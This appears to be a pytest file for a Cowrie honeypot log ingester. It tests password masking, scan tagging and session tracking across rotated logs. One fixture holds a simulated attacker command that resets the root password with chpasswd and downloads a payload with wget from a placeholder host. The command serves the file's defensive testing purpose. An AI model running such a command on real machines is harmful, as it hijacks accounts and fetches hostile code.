"""What is told of Cowrie's sessions, and what of their secrets is not."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.fakes.small_home import SmallHome
from tests.path.test_cowrie import LATER, MALWARE, POTS, SCAN, records, take
from tests.strategies.cowrie_logs import closed, connect, cowrie, lines, login


@pytest.fixture
def small(tmp_path: Path) -> SmallHome:
    made = SmallHome.make(tmp_path)
    made.write_source("pots", POTS)
    return made


def version(second: float, session: str) -> dict[str, object]:
    return {**cowrie("client.version", second, session, version="SSH-2.0-Go")}


def test_of_a_password_the_first_letter_is_kept_and_nothing_that_repeats_it(
    small: SmallHome,
) -> None:
    tried = {"username": "root", "password": "correct-horse"}
    said = {"message": "login attempt [root/correct-horse] succeeded"}
    command = "echo root:correct-horse | chpasswd; wget http://198.51.100.7:8080/33"
    content = lines(
        [
            connect(1, "a", 1001),
            cowrie("login.success", 2, "a", **tried, **said),
            cowrie("command.input", 3, "a", input=command, message=f"CMD: {command}"),
            closed(4, "a"),
            cowrie("login.failed", 5, "gone", **tried, **said),
            connect(6, "b", 1002, protocol="telnet"),
            cowrie("login.failed", 7, "b", **tried, **said),
        ]
    )
    take(small, small.put("cowrie.json", content))
    rows = [*records(small), *records(small, MALWARE)]
    assert len(rows) == 5
    assert "horse" not in json.dumps(rows, default=str)
    assert [row["password"] for row in records(small)] == ["c***", None, "c***", "c***"]


def test_a_client_that_announced_itself_and_tried_nothing_was_looking(small: SmallHome) -> None:
    rows = [
        *[connect(1, "a", 1001), version(2, "a"), closed(3, "a")],
        *[connect(4, "b", 1002), version(5, "b"), login(6, "b"), closed(7, "b")],
        *[connect(8, "c", 1003), closed(9, "c")],
        # Nobody knows what was tried before.
        *[version(10, "d"), closed(11, "d")],
    ]
    take(small, small.put("cowrie.json", lines(rows)), slice_rows=2)
    (row,) = records(small, SCAN)
    assert (row["src_port"], row["client_version"], row["tag"]) == (1001, "SSH-2.0-Go", "ssh")
    assert (row["infection"], row["application"], row["severity"]) == ("ssh-scan", "ssh", "low")


def test_a_login_in_an_earlier_file_is_known_when_the_session_ends(small: SmallHome) -> None:
    opened = lines([connect(1, "a", 1001), version(2, "a"), login(3, "a"), connect(4, "b", 1002)])
    take(small, small.put("cowrie.json.1", opened))
    ended = lines([closed(5, "a"), version(6, "b"), closed(7, "b")])
    take(small, small.put("cowrie.json.2", ended), now=LATER)
    assert [row["src_port"] for row in records(small, SCAN)] == [1002]
